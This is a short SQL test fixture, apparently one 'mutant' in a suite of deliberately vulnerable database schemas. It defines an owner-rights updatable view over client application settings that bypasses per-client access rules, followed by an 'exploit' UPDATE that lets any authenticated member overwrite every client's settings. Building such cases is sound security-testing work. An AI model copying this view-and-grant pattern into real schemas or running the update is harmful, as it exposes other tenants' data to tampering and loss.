-- mutant: An updatable view with its owner's rights, granted for writing only
-- base: flows
-- family: view-write
-- leaks: nothing comes out, but the settings of every client are overwritten
create view flows.application_settings as select client_id, id, settings from flows.client_applications;
grant update (settings) on flows.application_settings to authenticated;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated", "app_metadata": {"client_id": "{{a}}", "client_role": "member"}}
update flows.application_settings set settings = '{"closed": true}';
